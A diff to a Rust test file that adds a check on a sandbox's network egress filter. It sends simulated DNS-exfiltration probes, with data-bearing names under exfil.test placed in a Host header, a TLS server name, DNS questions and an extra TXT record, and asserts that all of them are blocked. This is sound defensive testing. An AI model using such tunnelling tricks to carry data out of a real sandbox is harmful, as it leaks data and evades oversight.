@@ -9,7 +9,9 @@ use std::time::Duration;
 
 use cove_network::lab::{DNS_ADDR, HOST_SERVICE_PORT, METADATA, UP_ADDR, WEB_A, WEB_B};
 use cove_network::{DeniedReason, EgressPolicy};
-use hickory_proto::op::ResponseCode;
+use hickory_proto::op::{Message, Query, ResponseCode};
+use hickory_proto::rr::rdata::TXT;
+use hickory_proto::rr::{Name, RData, Record, RecordType};
 use support::{dns, http, https, policy, Fixture};
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
@@ -380,5 +382,64 @@ async fn a_large_download_arrives_whole_and_is_counted() {
         "{c:?}"
     );
     assert!(c.bytes_out > 20 && c.bytes_out < 512, "{c:?}");
+    fx.finish().await;
+}
+
+/// Issue 27, finding 5: with internet off and one allowed domain, a name the sandbox puts in a
+/// `Host` header, a TLS server name or a DNS question is never looked up upstream unless an
+/// allow rule matches it (a lookup would carry `<data>.exfil.test` out through DNS).
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn denied_names_never_reach_the_upstream_resolver() {
+    let fx = Fixture::new("eexf").await;
+    let gw = fx.net().config().gateway();
+    let ca = fx.lab().ca_pem.clone();
+    let sbx = fx
+        .sandbox("exf", policy(false, &["allowed.test"], &[]))
+        .await;
+
+    let host = http(&sbx, WEB_A, 80, "d4t4-host.exfil.test").await;
+    assert!(host.is_err(), "a denied Host was let through: {host:?}");
+    let sni = https(&sbx, WEB_A, "d4t4-sni.exfil.test", &ca).await;
+    assert!(sni.is_err(), "a denied SNI was let through: {sni:?}");
+    let q = dns(&sbx, gw, "d4t4-dns.exfil.test").await.expect("dns");
+    assert_eq!(q.code, ResponseCode::Refused);
+    // The allowed name still works, looked up as before.
+    assert!(http(&sbx, WEB_A, 80, "allowed.test").await.is_ok());
+    assert!(https(&sbx, WEB_A, "allowed.test", &ca).await.is_ok());
+
+    // An allowed question carrying data in an additional record: only the question goes on.
+    let mut msg = Message::query();
+    msg.metadata.recursion_desired = true;
+    let name = Name::from_ascii("allowed.test.").expect("name");
+    msg.add_query(Query::query(name.clone(), RecordType::A));
+    msg.add_additional(Record::from_rdata(
+        name,
+        60,
+        RData::TXT(TXT::new(vec!["d4t4-additional".to_string()])),
+    ));
+    let ns = sbx.clone();
+    let a = tokio::task::spawn_blocking(move || {
+        cove_network::lab::dns_exchange(&ns, SocketAddrV4::new(gw, 53), msg, support::TIMEOUT)
+    })
+    .await
+    .expect("join")
+    .expect("client setup")
+    .expect("dns");
+    assert_eq!(a.ips, vec![WEB_A]);
+    let packets = fx.lab().seen.dns_packets();
+    assert!(
+        packets.iter().all(|p| !p.windows(4).any(|w| w == b"d4t4")),
+        "sandbox bytes beyond the question reached the resolver"
+    );
+
+    let seen = fx.lab().seen.dns_names();
+    assert!(
+        seen.iter().all(|n| !n.contains("exfil")),
+        "the fake resolver was asked a denied name: {seen:?}"
+    );
+    assert!(
+        seen.iter().any(|n| n == "allowed.test"),
+        "the allowed name is looked up: {seen:?}"
+    );
     fx.finish().await;
 }
